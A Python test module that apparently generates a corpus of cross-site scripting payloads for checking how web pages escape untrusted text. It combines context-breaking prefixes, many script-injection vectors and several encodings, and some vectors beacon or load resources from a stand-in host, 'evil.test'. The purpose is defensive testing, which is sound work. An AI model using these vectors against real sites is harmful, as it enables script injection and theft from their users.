"""Texts that would run, load or break out of where they stand, if a page showed them as they are. Our own, by what they try to end (a
context), by what they try to do (a script) and by how both are written (an encoding)."""

HIT = "window.__hit=1"
FOREIGN = "evil.test"

# What the text may stand in: an attribute, an element, a comment, a script, a template, a style, a JSON value, a URL.
ENDS = ["", "\"", "'", "\">", "'>", "-->", "--!>", "</textarea>", "</title>", "</script>", "</style>", "\u0301\">", "]]>", "</option></select>",
        "</svg>", "\\\"", "&quot;>", "{{/page}}", "`", "</pre></code>", "</noscript>", "\r\n\r\n", "\u2028", "\u0000\">", "<![CDATA[", "<!--><",
        "\");", "'});", "*/", "%22%3E", "</math>", "</template>", "</dialog></details>", "\t\"\n"]

SCRIPTS = [
    # Elements and their events.
    f"<script>{HIT}</script>", f"<img src=x onerror={HIT}>", f"<svg onload={HIT}>", f"<body onpageshow={HIT}>",
    f"<details open ontoggle={HIT}>", f"<input autofocus onfocus={HIT}>", f" autofocus onfocus={HIT} x=", f" onmouseover={HIT} x=",
    f"<style onload={HIT}></style>", f"<video><source onerror={HIT}></video>", f"<audio src=x onerror={HIT}>", f"<marquee onstart={HIT}>x</marquee>",
    f"<select autofocus onfocus={HIT}>", f"<textarea autofocus onfocus={HIT}>", f"<object data=x onerror={HIT}></object>",
    f"<button popovertarget=p>x</button><p id=p popover onbeforetoggle={HIT}>", f"<link rel=stylesheet href=//{FOREIGN}/x onerror={HIT}>",
    f"<div style=animation-name:x onanimationstart={HIT}>", f"<dialog open onclose={HIT}><form method=dialog>", f"<x contenteditable onbeforeinput={HIT}>",
    # Addresses.
    f"javascript:{HIT}", f"<a href=javascript:{HIT}>x</a>", f"<a href=\"java\tscript:{HIT}\">x</a>", f"<a href=&#106;avascript:{HIT}>x</a>",
    f"<form action=javascript:{HIT}><button>x</button></form>", f"<iframe src=javascript:parent.{HIT[7:]}>", f"data:text/html,<script>{HIT}</script>",
    f"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>", f"vbscript:{HIT}",
    f"<base href=//{FOREIGN}/>", f"<img src=//{FOREIGN}/beacon>", f"<link rel=prefetch href=//{FOREIGN}/x>", f"<iframe src=//{FOREIGN}/></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT[7:]}</script>'>", f"<embed src=//{FOREIGN}/x.swf>", f"<a href=//{FOREIGN} ping=//{FOREIGN}/p>x</a>",
    # Vector graphics and mathematics.
    f"<svg><script>{HIT}</script></svg>", f"<svg><animate onbegin={HIT} attributeName=x dur=1s>", f"<svg><use href=data:image/svg+xml,x></svg>",
    f"<svg><a xlink:href=javascript:{HIT}><text>x</text></a></svg>", f"<svg><foreignObject><body onload={HIT}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style>", f"<math href=javascript:{HIT}>x</math>",
    f"<svg><set attributeName=onmouseover to={HIT}>", f"<svg><image href=//{FOREIGN}/x onerror={HIT}>",
    # What changes when it is parsed again.
    f"<noscript><p title=\"</noscript><img src=x onerror={HIT}>\">", f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror={HIT} src>\">",
    f"<listing>&lt;img src=x onerror={HIT}&gt;</listing>", f"<xmp><p title=\"</xmp><svg/onload={HIT}>\">", f"<svg></p><style><a id=\"</style><img src=1 onerror={HIT}>\">",
    f"<template><script>{HIT}</script></template>", f"<template shadowrootmode=open><script>{HIT}</script></template>", f"<plaintext><script>{HIT}",
    f"<a id=x><a id=x name=y href=cid:{HIT}>", f"<img name=body><form id=location><input name=href value=javascript:{HIT}>",
    # Styles.
    f"<style>@import '//{FOREIGN}/x'</style>", f"<style>*{{background:url(//{FOREIGN}/x)}}</style>", f"<p style=\"background:url(//{FOREIGN}/x)\">",
    f"<p style=\"width:expression({HIT})\">", f";background:url(//{FOREIGN}/x);", "<style>input[value^=a]{{color:red}}</style>",
    # Templates, ours and others'.
    "{{{frame}}}", "{{>icons}}", "{{&frame}}", "{{=<% %>=}}<%&page%>", "{{#page}}{{>frame}}{{/page}}", "{{% CONTENT_TYPE:TEXT}}{{page}}", "{{frame.token}}",
    f"${{{HIT}}}", f"{{{{constructor.constructor('{HIT}')()}}}}", f"<%= {HIT} %>", f"#{{{HIT}}}", "${input.to}", f"[[{HIT}]]",
    # Letters that look like others, are nothing, or turn the line around.
    f"<\u0301script>{HIT}</script>", f"＜script＞{HIT}＜/script＞", f"<scr\u0000ipt>{HIT}</script>", f"<img\u000bsrc=x\u000conerror={HIT}>", f"\u202e>tpircs<{HIT}\u202c",
    f"<\u200bscript>{HIT}</script>", f"\ufeff<script>{HIT}</script>", f"<ſcript>{HIT}</ſcript>", f"<ımg src=x onerror={HIT}>", f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    # Of many at once.
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={HIT} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={HIT}//>\\x3e",
    f"'\"--></style></script><svg onload={HIT}>", f"\"';!--\"<XSS>=&{{()}}<img src=x onerror={HIT}>", f"</script><script>{HIT}</script><script>",
    "<!--", "<![CDATA[<script>", f"<?xml version=\"1.0\"?><script xmlns=\"http://www.w3.org/1999/xhtml\">{HIT}</script>",
]

ENCODINGS = [
    lambda text: text, lambda text: text, lambda text: text,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"), lambda text: text.replace("<", "&#60;").replace(">", "&#x3e"),
    lambda text: "".join(f"%{byte:02X}" for byte in text.encode()) if len(text) < 60 else text,
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"), lambda text: text.replace("<", "\\x3c"),
    lambda text: "".join(it.upper() if number % 2 else it for number, it in enumerate(text)).replace("WINDOW", "window"),
    lambda text: text.replace(" ", "/"), lambda text: text.replace("<", "<<").replace(">", ">>"), lambda text: text.replace("&", "&amp;amp;"),
]


def payloads(count=300):
    """Each script about as often as any other, with another end and in another writing each time, and a mark by which it is found again."""
    texts = []
    for number in range(count):
        script = SCRIPTS[number % len(SCRIPTS)]
        end = ENDS[(number * 7 + number // len(SCRIPTS)) % len(ENDS)]
        encode = ENCODINGS[(number + number // len(SCRIPTS)) % len(ENCODINGS)]
        texts.append(f"{encode(end + script)} {mark(number)}")
    return texts


def mark(number):
    return f"q{number}z"
